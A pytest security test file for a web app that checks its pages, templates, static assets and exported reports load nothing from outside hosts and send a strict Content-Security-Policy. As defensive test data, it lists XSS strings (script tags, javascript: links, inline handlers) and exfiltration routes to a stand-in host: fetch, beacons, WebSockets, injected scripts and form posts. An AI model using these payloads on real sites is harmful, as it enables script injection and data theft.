"""No page loads or runs anything but what this server sends, and browsers are told so."""

import re
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from repose.reports.session_page import sessions_page
from repose.reports.session_source import session_facts
from repose.sessions.sql_store import SqlStore
from repose.web.rights import NEEDS
from tests.kept import a_session, kept_store
from tests.security.day import ELSEWHERE, LURE
from tests.security.markup_check import in_module, in_page, in_policy, in_style
from tests.web.coach.running import Running, running

WEB = Path(__file__).parents[2] / "src" / "repose" / "web"
STATIC = sorted(path for path in (WEB / "static").rglob("*") if path.is_file())
TEMPLATES = sorted((WEB / "templates").glob("*.j2"))
AT = "http://127.0.0.1:8350/"

WITH_STYLE = {"/sessions/{session_id}/report"}
"""Pages that are files too, and bring their style along."""

ROOMS = {
    "/",
    "/history",
    "/sessions",
    "/sessions/{session_id}",
    "/annotate",
    "/calibrate",
    "/accuracy",
    "/data",
}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SqlStore]:
    with closing(kept_store(tmp_path_factory.mktemp("pages"))) as made:
        yield made


@pytest.fixture(scope="module")
def session(store: SqlStore) -> str:
    """Everything in it that people type is a lure."""
    return a_session(store, person=LURE, source=LURE, rate=15.0)


@pytest.fixture(scope="module")
def server(store: SqlStore, session: str) -> Iterator[Running]:
    with running(store=store) as made:
        yield made


# What is looked for is found.


@pytest.mark.parametrize(
    "text",
    [
        f'<img src="http://{ELSEWHERE}/a.png">',
        f"<img src=//{ELSEWHERE}/a.png>",
        f'<img srcset="/a.png 1x, //{ELSEWHERE}/a.png 2x">',
        f'<link rel="stylesheet" href="https://{ELSEWHERE}/a.css">',
        f'<form action="http://{ELSEWHERE}/">',
        f'<svg><use xlink:href="//{ELSEWHERE}/a.svg#a"></use></svg>',
        '<a href="javascript:alert(1)">a</a>',
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>",
        '<p style="color: red">',
        "<style>p {}</style>",
        f'<meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/">',
        '<base href="/a/">',
        '<iframe src="/"></iframe>',
    ],
)
def test_a_page_that_loads_or_runs_is_found(text: str) -> None:
    assert in_page(text, AT)


@pytest.mark.parametrize(
    "text",
    [
        f'import a from "https://{ELSEWHERE}/a.js";',
        f'await import("//{ELSEWHERE}/a.js");',
        f'fetch("http://{ELSEWHERE}/");',
        f"fetch(`//{ELSEWHERE}/`);",
        f"new WebSocket('wss://{ELSEWHERE}/');",
        "eval(text);",
        "new Function(text)();",
        "a.innerHTML = text;",
        'a.setAttribute("style", text);',
    ],
)
def test_a_module_that_loads_or_runs_is_found(text: str) -> None:
    assert in_module(text, AT)


@pytest.mark.parametrize(
    "text", [f"a {{ background: url(//{ELSEWHERE}/a) }}", f'@import "//{ELSEWHERE}/a.css"']
)
def test_a_style_sheet_that_loads_is_found(text: str) -> None:
    assert in_style(text, AT)


@pytest.mark.parametrize(
    "policy",
    [
        "default-src 'none'; script-src 'self' 'unsafe-inline'",
        "default-src 'none'; style-src 'unsafe-inline'",
        "default-src 'none'; img-src *",
        "default-src 'none'; connect-src https://repose.invalid",
        "default-src 'none'; script-src data:",
        "default-src 'self'",
        "default-src 'none'; base-uri 'none'",
    ],
)
def test_a_policy_that_is_not_strict_is_found(policy: str) -> None:
    ends = "; base-uri 'none'; frame-ancestors 'none'"
    assert in_policy(policy + ends if "base-uri" not in policy else policy, "127.0.0.1:8350")


# What there is.


def test_no_page_loads_or_runs_anything_but_ours(server: Running, store: SqlStore, session: str) -> None:
    kept = store.session(session)
    parts = {
        "session_id": session,
        "person_id": kept.person.id,
        "set_id": str(kept.sets[0].id),
        "job": "0" * 32,
    }
    asked = [path for method, path in NEEDS if method == "GET" and path not in ("/ws", "/static/{path:path}")]
    pages = set()
    with server.browser() as client:
        for path in [*asked, "/no-such-page", "/sessions/none"]:
            answer = client.get(path.format(**parts))
            policy = answer.headers["Content-Security-Policy"]
            own = server.url.removeprefix("http://")
            assert in_policy(policy, own) == [], path
            kind = answer.headers.get("Content-Type", "")
            if kind.startswith(("text/html", "image/svg")):
                found = in_page(answer.text, str(answer.url), inline_style="'sha256-" in policy)
                assert found == [], path
                pages |= {path} if answer.status_code == 200 else set()
    assert pages >= ROOMS | WITH_STYLE


def test_who_is_not_let_in_loads_nothing_either(server: Running) -> None:
    with server.browser() as client:
        answer = client.get("/", headers={"Cookie": ""})
    assert answer.status_code == 403
    assert in_page(answer.text, str(answer.url), inline_style=True) == []
    assert in_policy(answer.headers["Content-Security-Policy"], "") == []


@pytest.mark.parametrize("path", STATIC, ids=lambda path: path.name)
def test_what_pages_are_made_of_loads_nothing_from_elsewhere(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    look = {".js": in_module, ".css": in_style, ".svg": in_page}[path.suffix]
    assert look(text, f"{AT}static/{path.relative_to(WEB / 'static').as_posix()}") == []


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda path: path.name)
def test_templates_hold_no_script_no_handler_and_no_style(path: Path) -> None:
    text = re.sub(r"\{#.*?#\}|\{%.*?%\}", "", path.read_text(encoding="utf-8"), flags=re.DOTALL)
    # Before somebody is let in, the style sheets are closed; the policy knows the one style by its hash.
    assert in_page(text, AT, inline_style="<style>{{ style }}</style>" in text) == []


def test_a_report_that_is_handed_over_loads_nothing(store: SqlStore, session: str) -> None:
    page = sessions_page([session_facts(store, session)])
    assert in_page(page, "file:///report.html", inline_style=True) == []
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    # `frame-ancestors` means nothing in a file.
    assert in_policy(policy.replace("&#x27;", "'") + "; frame-ancestors 'none'", "") == []


# What a browser makes of it.

WAYS_OUT = {
    "a picture": f"document.body.append(Object.assign(new Image(), {{src: 'http://{ELSEWHERE}/a'}}))",
    "a request": f"fetch('http://{ELSEWHERE}/a').catch(() => 0)",
    "a beacon": f"navigator.sendBeacon('http://{ELSEWHERE}/a', 'x')",
    "a socket": f"try {{ new WebSocket('ws://{ELSEWHERE}/a') }} catch {{}}",
    "a script": f"document.body.append(Object.assign(document.createElement('script'), "
    f"{{src: 'http://{ELSEWHERE}/a'}}))",
    "a script of the page": "document.body.append(Object.assign(document.createElement('script'), "
    "{text: '1'}))",
    "a style of the page": "document.body.append(Object.assign(document.createElement('style'), "
    "{textContent: 'p {}'}))",
    "a style attribute": "document.body.setAttribute('style', 'color: red')",
    "a handler": "document.body.setAttribute('onclick', '1'); document.body.click()",
    "a frame": f"document.body.append(Object.assign(document.createElement('iframe'), "
    f"{{src: 'http://{ELSEWHERE}/a'}}))",
    "a form": f"(() => {{ const form = Object.assign(document.createElement('form'), "
    f"{{action: 'http://{ELSEWHERE}/a'}}); document.body.append(form); form.submit() }})()",
}
"""What a script that got into a page could try, by name."""

LISTEN = """
document.addEventListener("securitypolicyviolation", (event) => {
  console.log("violates", event.violatedDirective);
});
"""


def test_in_a_browser_no_page_asks_elsewhere_and_none_could(
    browser: Browser, server: Running, store: SqlStore, session: str
) -> None:
    name, value = server.cookie.split("=", 1)
    with browser.new_context() as context:
        context.add_cookies([{"name": name, "value": value, "url": server.url}])
        context.add_init_script(LISTEN)
        page = context.new_page()
        asked: list[str] = []
        violated: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda said: violated.append(said.text) if "violates" in said.text else None)
        for path in sorted(ROOMS | WITH_STYLE):
            page.goto(server.url + path.format(session_id=session), wait_until="load")
            page.wait_for_timeout(100)
            assert page.evaluate("document.title"), path
        assert [url for url in asked if not url.startswith((f"{server.url}/", "blob:", "data:"))] == []
        assert violated == []
        page.goto(server.url + "/history", wait_until="load")
        for what, script in WAYS_OUT.items():
            violated.clear()
            page.evaluate(script)
            for _ in range(40):
                if violated:
                    break
                page.wait_for_timeout(25)
            assert violated, f"{what} is not refused"
